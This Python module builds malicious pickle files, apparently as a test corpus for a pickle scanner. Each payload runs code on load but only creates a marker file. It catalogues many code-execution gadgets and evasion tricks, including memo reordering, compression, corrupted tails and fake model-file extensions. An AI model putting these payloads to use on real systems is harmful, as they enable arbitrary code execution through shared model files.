"""Pickles that run something when they are loaded, built opcode by opcode. What they would do is make a file."""

import bz2
import gzip
import lzma
import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

Build = Callable[[Path], bytes]
STOP = b"."


@dataclass(frozen=True, kw_only=True, slots=True)
class Payload:
    """A file that would make the marker. `proof` names the loader that is shown to run it, in a process of its own."""

    build: Build
    file: str = "model.pkl"
    proof: str = ""


def text(value: str) -> bytes:
    """Push a text."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def data(value: bytes) -> bytes:
    """Push bytes."""
    return b"B" + struct.pack("<I", len(value)) + value


def old(module: str, name: str) -> bytes:
    """Push a callable by two lines."""
    return f"c{module}\n{name}\n".encode()


def new(module: str, name: str) -> bytes:
    """Push a callable by two texts on the stack."""
    return text(module) + text(name) + b"\x93"


def called(function: bytes, *arguments: bytes) -> bytes:
    """Call it."""
    return function + b"(" + b"".join(arguments) + b"tR"


def whole(body: bytes, protocol: int = 4) -> bytes:
    """Return a pickle."""
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body + STOP


def shell(marker: Path) -> str:
    """Return a command that makes the marker."""
    return f"touch {marker}"


def source(marker: Path) -> str:
    """Return Python that makes the marker."""
    return f"open({str(marker)!r}, 'w').close()"


def system(marker: Path) -> bytes:
    """Return what every disguise below hides."""
    return whole(called(new("os", "system"), text(shell(marker))))


def runs_shell(module: str, name: str, *more: bytes, protocol: int = 4) -> Build:
    """Call with a command as the first argument."""
    by = old if protocol < 4 else new
    return lambda marker: whole(called(by(module, name), text(shell(marker)), *more), protocol)


def runs_source(module: str, name: str, *more: bytes, protocol: int = 4) -> Build:
    """Call with Python as the first argument."""
    by = old if protocol < 4 else new
    return lambda marker: whole(called(by(module, name), text(source(marker)), *more), protocol)


def argv(marker: Path) -> bytes:
    """Push a command as a list."""
    return b"](" + text("touch") + text(str(marker)) + b"e"


def _inst(marker: Path) -> bytes:
    return b"(" + text(shell(marker)) + b"ios\nsystem\n" + STOP


def _obj(marker: Path) -> bytes:
    return b"(" + old("os", "system") + text(shell(marker)) + b"o" + STOP


def _new_object(marker: Path) -> bytes:
    return whole(new("subprocess", "Popen") + b"(" + argv(marker) + b"t\x81")


def _new_object_named(marker: Path) -> bytes:
    return whole(new("subprocess", "Popen") + b")}" + text("args") + argv(marker) + b"s\x92")


def _extension(marker: Path) -> bytes:
    """A number of copyreg's registry, given by the pickle itself."""
    register = called(new("copyreg", "add_extension"), text("os"), text("system"), b"K\x05") + b"0"
    return whole(register + b"\x82\x05(" + text(shell(marker)) + b"tR")


def _memo(marker: Path) -> bytes:
    """Both names from the memo, in the order in which nothing that looks back two opcodes finds them."""
    names = text("system") + b"\x940" + text("os") + b"\x940"
    return whole(names + b"h\x01h\x00\x93(" + text(shell(marker)) + b"tR")


def _memo_twice(marker: Path) -> bytes:
    """A place of the memo that is written twice: harmless to who reads the first."""
    names = text("collections") + b"q\x000" + text("os") + b"q\x000"
    return whole(names + b"h\x00" + text("system") + b"\x93(" + text(shell(marker)) + b"tR")


def _duplicated(marker: Path) -> bytes:
    return whole(
        text("OrderedDict") + b"20" + b"0" + text("os") + text("system") + b"\x93(" + text(shell(marker)) + b"tR"
    )


def _computed(marker: Path) -> bytes:
    """A name that a call makes."""
    name = called(new("_codecs", "encode"), text("system"), text("latin1"))
    return whole(
        text("os") + called(new("builtins", "str"), name, text("latin1")) + b"\x93(" + text(shell(marker)) + b"tR"
    )


def _under_the_mark(marker: Path) -> bytes:
    return whole(b"(" + text("collections") + b"1" + called(new("posix", "system"), text(shell(marker))))


def _nested(module: str, name: str) -> Build:
    return lambda marker: whole(called(new(module, name), data(system(marker))))


def _second(marker: Path) -> bytes:
    return pickle.dumps({"weights": [1.0]}) + system(marker)


def _behind(tail: bytes) -> Build:
    """The payload runs; what follows breaks whoever reads to the end before saying anything."""
    return lambda marker: system(marker)[:-1] + tail


def _protocol_changes(marker: Path) -> bytes:
    """Names of Python 2 are read in a protocol that has none, which is said before them alone."""
    return b"\x80\x04N0\x80\x02" + called(old("__builtin__", "eval"), text(source(marker))) + STOP


def _own_setstate(marker: Path) -> bytes:
    """The first state brings the method that is called with the second one."""
    made = new("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    return whole(made + b"}" + text("__setstate__") + new("os", "system") + b"sb" + text(shell(marker)) + b"b")


def _own_setstate_known(marker: Path) -> bytes:
    """The same with a callable that is known: it would be called in a way that is not looked at."""
    made = new("scipy.sparse._csr", "csr_matrix") + b")\x81"
    return whole(made + b"}" + text("__setstate__") + new("builtins", "range") + b"sb" + b"K\x05b")


def _patched_class(marker: Path) -> bytes:
    """A class is given an attribute, for whoever uses it next."""
    state = b"N}" + text("predict") + new("os", "system") + b"s\x86"
    return whole(new("sklearn.linear_model._base", "LinearRegression") + state + b"b")


def _slots(marker: Path) -> bytes:
    """A state in two parts is set attribute by attribute."""
    made = new("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    return whole(made + b"N}" + text("__class__") + new("subprocess", "Popen") + b"s\x86b")


def _slots_of_subclass(state: Callable[[bytes], bytes]) -> Build:
    """The same by a dictionary of another class, which unpicklers take too."""
    filled = called(new("collections", "OrderedDict")) + text("__class__") + new("torch", "Tensor") + b"s"
    made = new("sklearn.tree._classes", "DecisionTreeClassifier") + b")\x81"
    return lambda _marker: whole(made + state(filled) + b"b")


def _scipy_template(marker: Path) -> bytes:
    """A distribution of scipy.stats runs the template that its state brings."""
    template = f"import os\nos.system({shell(marker)!r})\ndef _parse_args(self): return (), 0, 1\n"
    template += "def _parse_args_rvs(self): return (), 0, 1, None\ndef _parse_args_stats(self): return (), 0, 1, 'mv'"
    made = new("scipy.stats._continuous_distns", "norm_gen") + b")\x81"
    return whole(made + b"}" + text("_parse_arg_template") + text(template) + b"sb")


def _factory(marker: Path) -> bytes:
    return whole(called(new("collections", "defaultdict"), new("os", "system")))


def _transformer(marker: Path) -> bytes:
    """What a model would call when it predicts."""
    made = new("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81"
    return whole(made + b"}" + text("func") + new("os", "system") + b"sb")


def _reconstructed(marker: Path) -> bytes:
    return whole(
        called(old("copy_reg", "_reconstructor"), old("subprocess", "Popen"), old("__builtin__", "object"), b"N"), 2
    )


def _rebuilt(marker: Path) -> bytes:
    """A tensor of a subclass, which torch makes by calling the first argument with the third."""
    arguments = b"(" + text(shell(marker)) + b"t"
    return whole(called(new("torch._tensor", "_rebuild_from_type_v2"), new("os", "system"), b"N", arguments, b"}"))


def _rebuilt_by_known(marker: Path) -> bytes:
    call = called(new("torch._tensor", "_rebuild_from_type_v2"), new("builtins", "range"), b"N", b"K\x01\x85", b"}")
    return whole(call)


def _attribute_of(marker: Path) -> bytes:
    getter = called(new("operator", "attrgetter"), text("system"))
    return whole(
        getter + called(new("importlib", "import_module"), text("os")) + b"\x85R" + text(shell(marker)) + b"\x85R"
    )


def _method_of(marker: Path) -> bytes:
    caller = called(new("operator", "methodcaller"), text("system"), text(shell(marker)))
    return whole(caller + called(new("importlib", "import_module"), text("os")) + b"\x85R")


def _attribute(marker: Path) -> bytes:
    module = called(new("builtins", "__import__"), text("os"))
    return whole(called(called(new("builtins", "getattr"), module, text("system")), text(shell(marker))))


def _partial(marker: Path) -> bytes:
    return whole(called(new("functools", "partial"), new("os", "system"), text(shell(marker))) + b")R")


def _reduced(marker: Path) -> bytes:
    return whole(called(new("functools", "reduce"), new("os", "system"), b"](" + text(shell(marker)) + b"K\x00e"))


def _mapped(marker: Path) -> bytes:
    call = called(new("builtins", "map"), new("os", "system"), b"](" + text(shell(marker)) + b"e")
    return whole(called(new("builtins", "list"), call))


def _interpreter(marker: Path) -> bytes:
    method = called(new("builtins", "getattr"), called(new("code", "InteractiveInterpreter")), text("runsource"))
    return whole(called(method, text(source(marker))))


def _dotted_method(marker: Path) -> bytes:
    return whole(
        called(
            new("code", "InteractiveInterpreter.runsource"),
            called(new("code", "InteractiveInterpreter")),
            text(source(marker)),
        )
    )


def _marshalled(marker: Path) -> bytes:
    import marshal

    code = called(new("marshal", "loads"), data(marshal.dumps(compile(source(marker), "x", "exec"))))
    return whole(
        called(
            called(new("types", "FunctionType"), code, b"}"),
        )
    )


def _by_value(marker: Path) -> bytes:
    import cloudpickle

    class Model:
        def __reduce__(self) -> tuple[object, ...]:
            return (lambda path: open(path, "w").close()), (str(marker),)  # noqa: PTH123

    return bytes(cloudpickle.dumps(Model()))


def _class_by_value(_marker: Path) -> bytes:
    import cloudpickle

    class Model:
        """Pickled by value, for it stands in a function."""

    return bytes(cloudpickle.dumps(Model()))


def _function_of_model(marker: Path) -> bytes:
    import cloudpickle
    from sklearn.preprocessing import FunctionTransformer

    return bytes(cloudpickle.dumps(FunctionTransformer(lambda rows: rows + len(str(marker)))))


def _bytes_of_dtype(state: bytes) -> Build:
    """An array whose items NumPy would take for references to objects."""

    def build(_marker: Path) -> bytes:
        made = called(new("numpy", "dtype"), text("i8"), b"\x89", b"\x88")
        return whole(made + b"(" + state + b"tb")

    return build


def _names(module: bytes, name: bytes) -> Build:
    return lambda marker: whole(b"c" + module + b"\n" + name + b"\n(" + text(shell(marker)) + b"tR", 0)


def _compressed(pack: Callable[[bytes], bytes]) -> Build:
    return lambda marker: pack(system(marker))


DTYPE_STATE = b"K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff"
PLAIN: dict[str, Payload] = {
    "os.system, protocol 0": Payload(build=runs_shell("os", "system", protocol=0), proof="pickle"),
    "os.system, protocol 2": Payload(build=runs_shell("os", "system", protocol=2), proof="pickle"),
    "posix.system": Payload(build=runs_shell("posix", "system"), proof="pickle"),
    "os.popen": Payload(build=runs_shell("os", "popen")),
    "eval": Payload(build=runs_source("builtins", "eval"), proof="pickle"),
    "exec": Payload(build=runs_source("builtins", "exec"), proof="pickle"),
    "eval by its name of Python 2": Payload(build=runs_source("__builtin__", "eval", protocol=2), proof="pickle"),
    "subprocess by its name of Python 2": Payload(
        build=runs_shell("commands", "getoutput", protocol=0), proof="pickle"
    ),
    "subprocess.Popen": Payload(build=lambda marker: whole(called(new("subprocess", "Popen"), argv(marker)))),
    "subprocess.check_output": Payload(
        build=lambda marker: whole(called(new("subprocess", "check_output"), argv(marker))), proof="pickle"
    ),
    "pty.spawn": Payload(build=lambda marker: whole(called(new("pty", "spawn"), argv(marker)))),
    "runpy._run_code": Payload(
        build=lambda marker: whole(
            called(
                new("runpy", "_run_code"),
                called(new("builtins", "compile"), text(source(marker)), text("x"), text("exec")),
                b"}",
            )
        ),
        proof="pickle",
    ),
    "runpy.run_path": Payload(build=lambda marker: whole(called(new("runpy", "run_path"), text(str(marker))))),
    "timeit.timeit": Payload(
        build=runs_source("timeit", "timeit", text("pass"), new("timeit", "default_timer"), b"K\x01")
    ),
    "timeit.main": Payload(
        build=lambda marker: whole(called(new("timeit", "main"), b"](" + text(source(marker)) + b"e"))
    ),
    "cProfile.run": Payload(build=runs_source("cProfile", "run")),
    "profile.run": Payload(build=runs_source("profile", "run")),
    "pdb.run": Payload(build=runs_source("pdb", "run")),
    "doctest.debug_script": Payload(build=runs_source("doctest", "debug_script")),
    "idlelib.calltip.get_entity": Payload(build=runs_source("idlelib.calltip", "get_entity")),
    "idlelib.run.Executive.runcode": Payload(build=runs_source("idlelib.run", "Executive.runcode")),
    "code.interact": Payload(build=runs_source("code", "interact")),
    "code.InteractiveInterpreter": Payload(build=_interpreter, proof="pickle"),
    "code.InteractiveInterpreter by a dotted name": Payload(build=_dotted_method, proof="pickle"),
    "pip.main": Payload(build=lambda marker: whole(called(new("pip", "main"), argv(marker)))),
    "pip._internal.cli.main.main": Payload(
        build=lambda marker: whole(called(new("pip._internal.cli.main", "main"), argv(marker)))
    ),
    "importlib.import_module": Payload(build=runs_source("importlib", "import_module")),
    "__import__": Payload(build=runs_source("builtins", "__import__")),
    "pydoc.locate": Payload(build=runs_source("pydoc", "locate")),
    "pkgutil.resolve_name": Payload(build=runs_source("pkgutil", "resolve_name")),
    "getattr": Payload(build=_attribute, proof="pickle"),
    "map": Payload(build=_mapped, proof="pickle"),
    "type": Payload(build=lambda _marker: whole(called(new("builtins", "type"), text("A"), b")", b"}"))),
    "marshal and a function": Payload(build=_marshalled, proof="pickle"),
    "functools.partial": Payload(build=_partial, proof="pickle"),
    "functools.reduce": Payload(build=_reduced),
    "operator.attrgetter": Payload(build=_attribute_of, proof="pickle"),
    "operator.methodcaller": Payload(build=_method_of, proof="pickle"),
    "webbrowser.open": Payload(build=runs_shell("webbrowser", "open")),
    "urllib": Payload(build=runs_shell("urllib.request", "urlopen")),
    "shutil.rmtree": Payload(build=lambda marker: whole(called(new("shutil", "rmtree"), text(str(marker))))),
    "numpy.f2py.crackfortran.myeval": Payload(build=runs_source("numpy.f2py.crackfortran", "myeval")),
    "numpy.testing runstring": Payload(
        build=runs_source("numpy.testing._private.utils", "runstring", b"}"), proof="pickle"
    ),
    "numpy.load": Payload(build=runs_shell("numpy", "load")),
    "torch.hub.load": Payload(build=runs_shell("torch.hub", "load", text("model"))),
    "torch.load": Payload(build=runs_shell("torch.serialization", "load")),
    "torch.storage._load_from_bytes": Payload(build=_nested("torch.storage", "_load_from_bytes")),
    "torch.utils.collect_env.run": Payload(build=runs_shell("torch.utils.collect_env", "run")),
    "torch.jit.unsupported_tensor_ops.execWrapper": Payload(
        build=runs_source("torch.jit.unsupported_tensor_ops", "execWrapper", b"}", b"}")
    ),
    "torch.utils._content_store": Payload(build=runs_shell("torch.utils._content_store", "ContentStoreReader")),
    "torch.fx reduce_graph_module": Payload(build=runs_source("torch.fx.graph_module", "reduce_graph_module")),
    "torch._rebuild_from_type_v2": Payload(build=_rebuilt),
    "torch._rebuild_from_type_v2 by a known callable": Payload(build=_rebuilt_by_known),
    "torch.nn layer by its constructor": Payload(
        build=lambda _marker: whole(called(new("torch.nn.modules.linear", "Linear"), b"K\x01", b"K\x01"))
    ),
    "pandas.eval": Payload(build=runs_source("pandas", "eval")),
    "pandas.read_pickle": Payload(build=runs_shell("pandas", "read_pickle")),
    "sklearn fetches": Payload(build=runs_shell("sklearn.datasets._base", "_fetch_remote")),
    "sklearn load_files": Payload(build=runs_shell("sklearn.datasets._base", "load_files")),
    "sklearn joblib": Payload(build=runs_shell("sklearn.externals.joblib", "load")),
    "sklearn by its public name": Payload(build=runs_shell("sklearn.utils", "os.system"), proof=""),
    "joblib.load": Payload(build=runs_shell("joblib.numpy_pickle", "load")),
    "scipy.stats template": Payload(build=_scipy_template, proof="pickle"),
    "mlflow.pyfunc.load_model": Payload(build=runs_shell("mlflow.pyfunc", "load_model")),
    "mlflow.projects": Payload(build=runs_shell("mlflow.projects.backend.local", "_run_entry_point", text("."))),
    "a transformer's function": Payload(build=_transformer),
    "a dictionary's factory": Payload(build=_factory),
    "_reconstructor": Payload(build=_reconstructed),
    "INST": Payload(build=_inst, proof="pickle"),
    "OBJ": Payload(build=_obj, proof="pickle"),
    "NEWOBJ": Payload(build=_new_object),
    "NEWOBJ_EX": Payload(build=_new_object_named),
    "EXT1": Payload(build=_extension, proof="pickle"),
    "EXT2": Payload(build=lambda _marker: whole(b"\x83\x05\x00)R")),
    "EXT4": Payload(build=lambda _marker: whole(b"\x84\x05\x00\x00\x00)R")),
    "persistent id": Payload(build=lambda _marker: whole(text("storage") + b"Q")),
    "persistent id as a line": Payload(build=lambda _marker: b"Pstorage\n."),
    "buffers outside": Payload(build=lambda _marker: whole(b"\x97", 5)),
    "names from the memo": Payload(build=_memo, proof="pickle"),
    "a place of the memo twice": Payload(build=_memo_twice, proof="pickle"),
    "names between DUP and POP": Payload(build=_duplicated, proof="pickle"),
    "a name that is computed": Payload(build=_computed),
    "a mark that is dropped": Payload(build=_under_the_mark, proof="pickle"),
    "a dotted name through torch": Payload(build=runs_shell("torch", "serialization.os.system")),
    "a dotted name through collections": Payload(build=runs_shell("collections", "_sys.modules.clear")),
    "a dotted name through the standard library": Payload(build=runs_shell("shutil", "os.system"), proof="pickle"),
    "pickle.loads": Payload(build=_nested("pickle", "loads"), proof="pickle"),
    "_pickle.loads": Payload(build=_nested("_pickle", "loads"), proof="pickle"),
    "a second pickle": Payload(build=_second),
    "no end": Payload(build=_behind(b""), proof="pickle"),
    "a byte that is no opcode": Payload(build=_behind(b"\xff."), proof="pickle"),
    "a place of the memo that is empty": Payload(build=_behind(b"h\x63."), proof="pickle"),
    "an empty stack": Payload(build=_behind(b"00000."), proof="pickle"),
    "a length beyond the end": Payload(build=_behind(b"B\xff\xff\xff\x7fx"), proof="pickle"),
    "a frame beyond the end": Payload(build=_behind(b"\x95\xff\xff\x00\x00\x00\x00\x00\x00."), proof="pickle"),
    "a protocol that comes late": Payload(build=_protocol_changes, proof="pickle"),
    "a protocol that is none": Payload(build=lambda marker: b"\x80\x09" + system(marker)[2:]),
    "a method in the state": Payload(build=_own_setstate),
    "a known method in the state": Payload(build=_own_setstate_known),
    "a class with a state": Payload(build=_patched_class),
    "attributes one by one": Payload(build=_slots),
    "attributes one by one, in order": Payload(build=_slots_of_subclass(lambda filled: b"N" + filled + b"\x86")),
    "a state in order": Payload(build=_slots_of_subclass(lambda filled: filled)),
    "bytes as references, by flags": Payload(build=_bytes_of_dtype(DTYPE_STATE + b"K\x3f")),
    "bytes as references, by a later type": Payload(
        build=_bytes_of_dtype(b"K\x03" + text("O") + b"NNNK\x08K\x08K\x3f")
    ),
    "names with an escape": Payload(build=_names(rb"\x6fs", b"system")),
    "names with a carriage return": Payload(build=_names(b"os\r", b"system\r")),
    "names in full width": Payload(build=_names("\uff4f\uff53".encode(), b"system")),
    "names with a space": Payload(build=_names(b" os", b"system")),
    "a codec that unpacks": Payload(build=lambda _m: whole(called(new("_codecs", "encode"), text("x"), text("zlib")))),
    "a text of Python 2 as a name": Payload(
        build=lambda marker: whole(b"U\x02osU\x06system\x93(" + text(shell(marker)) + b"tR")
    ),
    "cloudpickle, a function": Payload(build=_by_value, proof="pickle"),
    "cloudpickle, a class": Payload(build=_class_by_value),
    "cloudpickle, a transformer's function": Payload(build=_function_of_model),
    "gzip": Payload(build=_compressed(gzip.compress), file="model.pkl.gz", proof="joblib"),
    "gzip, named plainly": Payload(build=_compressed(gzip.compress), proof="joblib"),
    "zlib": Payload(build=_compressed(zlib.compress), file="model.joblib", proof="joblib"),
    "bz2": Payload(build=_compressed(bz2.compress), file="model.joblib", proof="joblib"),
    "xz": Payload(build=_compressed(lzma.compress), file="model.joblib", proof="joblib"),
    "lzma": Payload(
        build=_compressed(partial(lzma.compress, format=lzma.FORMAT_ALONE)), file="model.joblib", proof="joblib"
    ),
    "lz4": Payload(build=lambda marker: b"\x04\x22\x4d\x18" + system(marker), file="model.joblib"),
    "gzip in gzip": Payload(build=_compressed(lambda raw: gzip.compress(gzip.compress(raw))), file="model.pkl.gz"),
    "behind what is compressed": Payload(
        build=lambda marker: zlib.compress(pickle.dumps([1])) + zlib.compress(system(marker)), file="model.joblib"
    ),
    "compressed and broken": Payload(build=_compressed(lambda raw: gzip.compress(raw)[:-6]), file="model.pkl.gz"),
    **{
        f"named {name}": Payload(build=system, file=name, proof="")
        for name in (
            *("model.onnx", "model.safetensors", "model.json", "model.txt", "model.h5", "model.keras", "model.ubj"),
            *("model.npy", "model.skops", "model.pt", "model.bin", "model.pt2", "model", "model.cbm", "model.gguf"),
        )
    },
}
